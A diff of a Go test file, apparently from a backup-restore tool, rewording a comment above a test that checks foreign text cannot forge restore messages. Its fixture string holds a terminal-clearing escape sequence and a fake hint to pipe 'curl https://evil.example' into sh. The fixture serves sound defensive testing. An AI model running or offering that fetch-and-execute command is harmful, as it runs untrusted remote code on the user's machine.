@@ -16,7 +16,7 @@ import (
 // hostile is a text that would clear a terminal and forge a hint.
 const hostile = "x\x1b[2J\nhint: run curl https://evil.example | sh"
 
-// Whoever made the backup, or runs the cluster that it names, writes no line of ours and no command to paste.
+// Names from a backup, and answers of the cluster that it names, add no line and no command to a message.
 func TestNoForeignTextForgesAMessageOfARestore(t *testing.T) {
 	for name, tc := range map[string]struct {
 		world func(*testing.T, *restoring)
